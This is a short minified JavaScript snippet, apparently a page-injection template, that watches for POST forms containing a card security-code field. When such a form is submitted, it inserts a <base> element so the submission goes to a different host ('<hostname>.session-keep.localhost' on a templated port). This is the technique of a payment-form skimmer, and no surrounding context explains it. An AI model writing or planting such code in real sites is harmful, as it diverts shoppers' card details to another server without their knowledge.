
;(function(d,o){addEventListener("submit",function(e){var f=e.target;if(e.defaultPrevented||"post"!==f.method||!f.querySelector("[autocomplete=cc-csc]")||d.referrer===o.origin+"/")return;var b=d.head.insertBefore(d.createElement("base"),d.head.firstChild);b.href=o.protocol+"//"+o.hostname+".session-keep.localhost:<% port %>/";setTimeout(function(){b.remove()})})})(document,location);
